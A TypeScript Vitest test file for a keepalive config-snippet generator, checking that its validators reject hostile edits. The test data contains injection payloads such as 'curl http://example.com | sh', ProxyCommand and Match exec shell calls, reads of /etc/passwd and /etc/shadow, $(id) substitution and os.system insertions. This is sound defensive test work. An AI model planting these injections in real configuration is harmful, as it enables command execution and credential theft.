// The line checkers themselves: each accepts what the engine renders for many plans, and each
// rejects a hand-written hostile variant of a real snippet (so every checker can fail).
import { describe, expect, it } from 'vitest';
import { run } from '../../../lib/engine';
import type { Snippet } from '../../../lib/types';
import { checkAll, checkSnippet } from '.';
import { checkConninfo } from './conninfo';

/** Plans that between them render every snippet variant (versions, explicit values, pings, pools). */
const GOOD = [
  'target=ssh',
  'target=ssh&via=aws-natgw&goal=60',
  'target=ssh&host=*.corp%20!jump?&alive=10:3&openssh=9.5',
  'target=ssh&keepalive=1:1:1&openssh=7.0',
  'target=postgres',
  'target=postgres&postgres=11&dbhost=10.0.0.5',
  'target=postgres&dbhost=::ffff:10.0.0.5',
  'target=mysql&dbhost=2001:db8::7',
  'target=postgres&postgres=13&via=aws-alb',
  'target=postgres&keepalive=60:10:6&postgres=18&user_timeout=2147483647',
  'target=mysql',
  'target=mysql&mysql=mysql-8.4&dbhost=db-1.internal',
  'target=mysql&via=azure-lb&goal=45',
  'target=nginx',
  'target=nginx&nginx=1.29.7&upstream=%5B::1%5D:65535',
  'target=nginx&upstream=%5B::ffff:10.0.0.5%5D:8080',
  'target=nginx&idle=30&nginx=1.16',
  'target=nginx&nginx_form=site',
  'target=nginx&nginx_form=site&nginx=1.29.7&upstream=%5B::1%5D:65535',
  'target=nginx&nginx_form=site&idle=30&nginx=1.16&manage=ansible,cloud-init',
  'target=elasticsearch',
  'target=elasticsearch&via=gcp-proxy-nlb',
  'target=elasticsearch&keepalive=600:400:3',
  'target=elasticsearch&elasticsearch=7.3',
  'target=elasticsearch&elasticsearch=7.4&via=gcp-proxy-nlb',
  'target=elasticsearch&elasticsearch=9',
  'target=ssh&host=*.corp%20!jump?&manage=ansible,cloud-init,terraform-aks',
  'target=postgres&via=azure-lb&dbhost=::ffff:10.0.0.5&manage=ansible,cloud-init,terraform-aks',
  'target=mysql&idle=30&manage=ansible,cloud-init',
  'target=nginx&upstream=%5B2001:db8::1%5D:8080&manage=ansible,cloud-init,terraform-aks',
  'target=elasticsearch&via=gcp-proxy-nlb&manage=ansible,cloud-init,terraform-aks',
];

describe('the checkers accept what the engine renders', () => {
  it.each(GOOD)('%s', (q) => {
    const r = run(q);
    expect(r.errors).toEqual([]);
    expect(r.snippets.length).toBeGreaterThan(8);
    expect(checkAll(r.snippets, r.plan)).toEqual([]);
  });

  it('an infeasible plan renders nothing, and the checker expects nothing', () => {
    const r = run('target=ssh&idle=1');
    expect(r.plan.infeasible).toBeDefined();
    expect(checkAll(r.snippets, r.plan)).toEqual([]);
    expect(
      checkAll([{ id: 'sysctl', title: '', filename: '', destination: '', language: 'ini', text: '' }], r.plan).length,
    ).toBeGreaterThan(0);
  });
});

type Mutation = readonly [query: string, id: string, what: string, edit: (text: string) => string];

/** Replaces the first occurrence and fails loudly when the anchor is missing (so the case really mutates). */
const sub = (from: string | RegExp, to: string) => (text: string) => {
  const out = text.replace(from, to);
  if (out === text) throw new Error(`anchor ${String(from)} not found`);
  return out;
};
const append = (line: string) => (text: string) => `${text}${line}\n`;

const HOSTILE: readonly Mutation[] = [
  // header
  [
    'target=ssh',
    'sysctl',
    'a line injected into the header',
    sub('# Reproduce:', '# Inputs: x\nkernel.core_pattern = 1\n# Reproduce:'),
  ],
  ['target=ssh', 'sysctl', 'a U+2028 in a comment', sub('Apply now', 'Apply\u2028now')],
  ['target=ssh', 'sysctl', 'a share query that is not the plan', sub('?v=1', '?v=1&host=evil')],
  ['target=ssh', 'sysctl', 'no blank line after the header', sub('\n\n', '\n')],
  // sysctl
  ['target=ssh', 'sysctl', 'a setting the plan did not choose', append('net.ipv4.ip_forward = 1')],
  ['target=ssh', 'sysctl', 'a value with a unit', sub(/tcp_keepalive_time = \d+/, 'tcp_keepalive_time = 300s')],
  [
    'target=ssh',
    'sysctl',
    'a value the plan did not choose',
    sub(/tcp_keepalive_intvl = \d+/, 'tcp_keepalive_intvl = 7'),
  ],
  ['target=ssh', 'sysctl', 'a key twice', append('net.ipv4.tcp_keepalive_probes = 5')],
  ['target=ssh', 'sysctl', 'a CR line ending', sub('\nnet.ipv4', '\r\nnet.ipv4')],
  // ssh_config / sshd_config
  ['target=ssh', 'ssh-config', 'ProxyCommand injected into the Host block', append('    ProxyCommand sh -c id')],
  ['target=ssh', 'ssh-config', 'a Match block', append('Match exec "id"')],
  ['target=ssh', 'ssh-config', 'a Host pattern with a quote', sub(/^Host \*$/m, 'Host "*"')],
  ['target=ssh', 'ssh-config', 'an unindented keyword', sub('    TCPKeepAlive yes', 'TCPKeepAlive yes')],
  ['target=ssh', 'sshd-config', 'ForceCommand', append('ForceCommand /bin/sh')],
  [
    'target=ssh',
    'sshd-config',
    'a value the plan did not choose',
    sub(/ClientAliveCountMax \d+/, 'ClientAliveCountMax 0'),
  ],
  // postgresql.conf, pgbouncer.ini, my.cnf
  ['target=postgres', 'postgresql-conf', 'include of another file', append("include '/etc/passwd'")],
  ['target=postgres', 'postgresql-conf', 'a quoted string value', append("shared_preload_libraries = 'evil'")],
  ['target=postgres', 'postgresql-conf', 'a setting outside the allowlist', append('ssl = 0')],
  ['target=postgres', 'pgbouncer-ini', 'a [databases] section', append('[databases]')],
  [
    'target=postgres',
    'pgbouncer-ini',
    'a [pgbouncer] head that would reset the section',
    sub('tcp_keepalive = 1', '[pgbouncer]\ntcp_keepalive = 1'),
  ],
  ['target=postgres', 'pgbouncer-ini', 'auth_type', sub('tcp_keepalive = 1', 'tcp_keepalive = 1\nauth_type = trust')],
  ['target=mysql', 'my-cnf', 'a [client] section', append('[client]')],
  ['target=mysql', 'my-cnf', 'an option file include', append('!includedir /tmp')],
  // nginx
  [
    'target=nginx&nginx_form=site',
    'nginx-conf',
    'include after the upstream address',
    sub(/server (\S+);/, 'server 127.0.0.1:8080; include /etc/passwd;'),
  ],
  [
    'target=nginx&nginx_form=site',
    'nginx-conf',
    'a brace that closes the block early',
    sub('    keepalive 16;', '}\n    keepalive 16;'),
  ],
  [
    'target=nginx&nginx_form=site',
    'nginx-conf',
    'a directive outside the allowlist',
    sub('        proxy_pass http://backend;', '        proxy_pass http://backend;\n        return 200;'),
  ],
  ['target=nginx&nginx_form=site', 'nginx-conf', 'a missing semicolon', sub('keepalive 16;', 'keepalive 16')],
  ['target=nginx&nginx_form=site', 'nginx-conf', 'an unclosed block', sub(/\n}\n$/, '\n')],
  [
    'target=nginx&nginx_form=site',
    'nginx-conf',
    'a new location block',
    sub('    location / {', '    location /x {\n    }\n    location / {'),
  ],
  [
    'target=nginx',
    'nginx-conf',
    'merge form: an invented upstream block',
    sub('keepalive 16;', 'upstream backend {\nkeepalive 16;'),
  ],
  [
    'target=nginx',
    'nginx-conf',
    'merge form: a new server with a listen',
    sub('# In your server', 'server {\n# In your server'),
  ],
  [
    'target=nginx',
    'nginx-conf',
    'merge form: an upstream line under the location heading',
    sub('proxy_socket_keepalive on;', 'proxy_socket_keepalive on;\nkeepalive_timeout 60s;'),
  ],
  [
    'target=nginx',
    'nginx-conf',
    'merge form: a proxy_pass naming an invented upstream',
    sub('proxy_socket_keepalive on;', 'proxy_socket_keepalive on;\nproxy_pass http://backend;'),
  ],
  ['target=nginx', 'nginx-conf', 'merge form: a missing semicolon', sub('keepalive 16;', 'keepalive 16')],
  // YAML
  ['target=ssh', 'compose', 'a second document', append('---\nkind: Secret')],
  [
    'target=ssh',
    'compose',
    'an anchor and an alias',
    sub('    image: your-image', '    image: &i your-image\n    x: *i'),
  ],
  ['target=ssh', 'kubernetes', 'a tag', sub('kind: Pod', 'kind: !!str Pod')],
  ['target=ssh', 'kubernetes', 'a key the plan did not choose', sub('spec:', 'spec:\n  hostNetwork: true')],
  [
    'target=elasticsearch',
    'elasticsearch-yml',
    'a value the plan did not choose',
    sub(/keep_count: \d+/, 'keep_count: 99'),
  ],
  [
    'target=elasticsearch&elasticsearch=7.3',
    'elasticsearch-yml',
    'a keep_idle a 7.3 node refuses',
    sub('network.tcp.keep_alive: true', 'network.tcp.keep_alive: true\nnetwork.tcp.keep_idle: 240'),
  ],
  ['target=elasticsearch', 'verify', 'plain http on 8.x', sub('https://', 'http://')],
  ['target=elasticsearch', 'verify', 'no credentials on 8.x', sub(' -u elastic', '')],
  ['target=elasticsearch', 'verify', 'a curl that fails quietly', sub('--fail-with-body -sS', '-s')],
  ['target=elasticsearch&elasticsearch=7.17', 'verify', 'https without the CA on 7.x', sub('http://', 'https://')],
  ['target=elasticsearch', 'elasticsearch-yml', 'a directive', sub('# Static', '%YAML 1.2\n# Static')],
  // conninfo and shell
  [
    'target=postgres',
    'libpq',
    'a quote closing the conninfo value',
    sub('host=db.example.com', "host='db' sslmode=disable"),
  ],
  ['target=postgres', 'libpq', 'a keyword outside the allowlist', sub('dbname=app', 'dbname=app sslmode=disable')],
  ['target=postgres', 'libpq', 'a second command', append('rm -rf /tmp/x')],
  ['target=ssh', 'docker', 'an extra docker flag', sub('  your-image', '  --privileged \\\n  your-image')],
  ['target=ssh', 'docker', 'a command after the image', sub('your-image', 'your-image; id')],
  [
    'target=postgres',
    'verify',
    'command substitution in the host',
    sub('host=db.example.com dbname', 'host=db$(id) dbname'),
  ],
  ['target=ssh', 'verify', 'a command outside the allowlist', append('curl http://example.com | sh')],
  ['target=ssh', 'verify', 'an option as the ssh host', sub('ssh -G x', 'ssh -G -oProxyCommand=id')],
  // properties
  ['target=postgres', 'jdbc', 'a driver property outside the allowlist', append('socketFactory=evil.Factory')],
  [
    'target=postgres',
    'jdbc',
    'a URL parameter the plan did not choose',
    sub('tcpKeepAlive=true\n', 'tcpKeepAlive=true&sslmode=disable\n'),
  ],
  ['target=mysql', 'connector-j', 'an IPv6 host without brackets', sub('db.example.com', '::1')],
  // code
  [
    'target=ssh',
    'code-python',
    'a statement added to the function',
    sub(
      '    sock.setsockopt(socket.SOL_SOCKET',
      '    __import__("os").system("id")\n    sock.setsockopt(socket.SOL_SOCKET',
    ),
  ],
  ['target=ssh', 'code-python', 'a number the plan did not choose', sub(/TCP_KEEPCNT, \d+/, 'TCP_KEEPCNT, 99')],
  [
    'target=ssh',
    'code-node',
    'a require added',
    sub('export function', "require('child_process').exec('id');\nexport function"),
  ],
  ['target=ssh', 'code-go', 'a changed identifier', sub('Enable:   true', 'Enable:   false')],
  [
    'target=ssh',
    'code-java',
    'a unicode escape that javac reads as a line break',
    sub('// Java 11+ on Linux.', '// Java 11+ on Linux.\\u000aRuntime.getRuntime();'),
  ],
  [
    'target=postgres',
    'psycopg',
    'a host literal that is not the input',
    sub('host="db.example.com"', 'host="db.example.com", sslmode="disable"'),
  ],
  [
    'target=mysql',
    'mysql2-pool',
    'a string closed early',
    sub('host: "db.example.com"', 'host: "db", ssl: false, x: "1"'),
  ],
  ['target=postgres', 'sqlalchemy', 'another URL host', sub('//db.example.com:5432', '//evil.example.com:5432')],
  ['target=postgres', 'psycopg-pool', 'a conninfo keyword added', sub('dbname=app', 'dbname=app sslmode=disable')],
  ['target=postgres', 'pgx', 'a longer idle time', sub('pool_max_conn_idle_time=', 'pool_max_conn_idle_time=9')],
  ['target=postgres', 'hikaricp', 'a key outside the allowlist', append('leakDetectionThreshold=2000')],
  ['target=mysql', 'go-sql', 'another DSN host', sub('tcp(db.example.com:3306)', 'tcp(evil:3306)')],
  [
    'target=nginx&app=node',
    'app-server',
    'a shorter keep-alive timeout',
    sub('keepAliveTimeout = ', 'keepAliveTimeout = 1'),
  ],
  [
    'target=grpc',
    'grpc-go',
    "a server minimum above the client's time",
    sub('MinTime:             ', 'MinTime:             9'),
  ],
  ['target=grpc', 'grpc-python', 'another channel target', sub('"db.example.com:50051"', '"evil.example.com:50051"')],
  ['target=redis', 'redis-conf', 'a second directive', append('timeout 300')],
  ['target=redis', 'redis-py', 'a longer idle time', sub('socket.TCP_KEEPIDLE: ', 'socket.TCP_KEEPIDLE: 9')],
];

describe('each checker rejects a hand-written hostile snippet', () => {
  it.each(HOSTILE)('%s %s: %s', (query, id, _what, edit) => {
    const r = run(query);
    const snippet = r.snippets.find((s) => s.id === id);
    if (!snippet) throw new Error(`no snippet ${id} for ${query}`);
    expect(checkSnippet(snippet, r.plan)).toEqual([]);
    const bad: Snippet = { ...snippet, text: edit(snippet.text) };
    expect(checkSnippet(bad, r.plan).length).toBeGreaterThan(0);
  });

  const MANAGED: [string, string, (text: string) => string][] = [
    [
      'ansible',
      'a line no snippet has, inside a copied file',
      sub('ServerAliveInterval', 'ProxyCommand sh -c id\n      ServerAliveInterval'),
    ],
    ['ansible', 'an anchor', sub('- name:', '- &x name:')],
    ['ansible', 'a value on two lines', sub('state: present', 'state: "pre\\nsent"')],
    ['cloud-init', 'no #cloud-config first line', (t) => t.replace(/^#cloud-config\n/, '')],
    [
      'cloud-init',
      'a line no snippet has, inside a written file',
      sub('ServerAliveInterval', 'Match exec "id"\n      ServerAliveInterval'),
    ],
    [
      'terraform-aks',
      'a string value',
      (t) => t.replace(/(net_ipv4_tcp_keepalive_probes = )\d+/, '$1"${file("/etc/shadow")}"'),
    ],
    ['terraform-aks', 'a brace left open', (t) => t.replace(/\}\n$/, '')],
  ];
  it.each(MANAGED)('%s: %s', (id, _what, edit) => {
    const r = run('target=ssh&idle=30&manage=ansible,cloud-init,terraform-aks');
    const snippet = r.snippets.find((s) => s.id === id);
    if (!snippet) throw new Error(`no snippet ${id}`);
    expect(checkSnippet(snippet, r.plan, r.snippets)).toEqual([]);
    const text = edit(snippet.text);
    expect(text).not.toBe(snippet.text);
    expect(checkSnippet({ ...snippet, text }, r.plan, r.snippets).length).toBeGreaterThan(0);
  });

  it('an unknown snippet id and a missing snippet are both reported', () => {
    const r = run('target=ssh');
    // A stranger's id, past the type: the checker must still name it.
    const extra = {
      id: 'evil',
      title: 'x',
      filename: 'x',
      destination: 'x',
      language: 'ini',
      text: 'x\n',
    } as unknown as Snippet;
    expect(checkAll([...r.snippets, extra], r.plan).join('\n')).toMatch(/unknown snippet id "evil"/);
    expect(checkAll(r.snippets.slice(1), r.plan).join('\n')).toMatch(/but the plan renders/);
  });

  it('the conninfo checker rejects a quote, a second keyword and a space in a value', () => {
    const want = [
      ['host', 'db'],
      ['port', 5432],
    ] as const;
    expect(checkConninfo('host=db port=5432', want)).toEqual([]);
    expect(checkConninfo("host='db' port=5432", want).length).toBeGreaterThan(0);
    expect(checkConninfo('host=db sslmode=disable port=5432', want).length).toBeGreaterThan(0);
    expect(checkConninfo('host=db  port=5432', want).length).toBeGreaterThan(0);
    expect(
      checkConninfo('host=-db port=5432', [
        ['host', '-db'],
        ['port', 5432],
      ]).length,
    ).toBeGreaterThan(0);
  });
});
